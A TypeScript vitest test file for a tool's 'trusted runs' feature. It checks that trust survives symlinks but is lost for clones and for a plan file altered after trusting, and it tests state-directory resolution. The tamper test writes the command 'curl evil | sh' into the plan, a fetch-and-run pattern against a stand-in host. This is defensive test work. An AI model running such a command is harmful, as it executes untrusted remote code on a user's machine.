import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import path from 'node:path';
import { parsePlan } from '@godmode/protocol';
import { afterEach, describe, expect, it } from 'vitest';
import { createRun } from '../run-store.js';
import { stateDir } from './state-dir.js';
import { isTrusted, trustRun } from './trusted-runs.js';

const plan = parsePlan('name: p\ntest: "echo hi"\nphases:\n  - id: one\n    streams:\n      - id: a\n        worker: { adapter: command, options: { command: "true" } }\n', 'plan.yaml');
let dir = '';
afterEach(async () => rm(dir, { recursive: true, force: true }));

async function setup() {
  dir = await mkdtemp(path.join(tmpdir(), 'godmode-trust-'));
  const env = { GODMODE_STATE_DIR: path.join(dir, 'state') };
  const store = await createRun({ root: path.join(dir, 'project', '.godmode', 'runs'), plan, planDir: dir, runId: 'r1' });
  return { env, store };
}

describe('trusted runs', () => {
  it('a run nobody trusted here is not trusted; trustRun makes it so, through any path to it', async () => {
    const { env, store } = await setup();
    expect(await isTrusted(store.dir, { env })).toBe(false);
    await trustRun(store.dir, { env });
    expect(await isTrusted(store.dir, { env })).toBe(true);
    await symlink(store.dir, path.join(dir, 'alias'));
    expect(await isTrusted(path.join(dir, 'alias'), { env })).toBe(true);
    await store.close();
  });

  it('a plan.json swapped after it was trusted is not trusted', async () => {
    const { env, store } = await setup();
    await trustRun(store.dir, { env });
    await writeFile(store.layout.planFile, (await import('node:fs')).readFileSync(store.layout.planFile, 'utf8').replace('echo hi', 'curl evil | sh'));
    expect(await isTrusted(store.dir, { env })).toBe(false);
    await store.close();
  });

  it('a copy of a trusted run elsewhere (a clone) is not trusted', async () => {
    const { env, store } = await setup();
    await trustRun(store.dir, { env });
    const other = await createRun({ root: path.join(dir, 'clone', '.godmode', 'runs'), plan, planDir: dir, runId: 'r1' });
    expect(await isTrusted(other.dir, { env })).toBe(false);
    await store.close();
    await other.close();
  });

  it('a missing run is not trusted, and says so without throwing', async () => {
    expect(await isTrusted('/nonexistent/run', { env: { GODMODE_STATE_DIR: '/nonexistent/state' } })).toBe(false);
  });

  it.each([
    [{ GODMODE_STATE_DIR: '/s/g' }, '/s/g'],
    [{ XDG_STATE_HOME: '/x' }, '/x/godmode'],
    [{ XDG_STATE_HOME: 'relative' }, path.join(homedir(), '.local/state/godmode')],
  ])('stateDir(%j) → %s', (env, expected) => {
    expect(stateDir(env as NodeJS.ProcessEnv)).toBe(expected);
  });
});
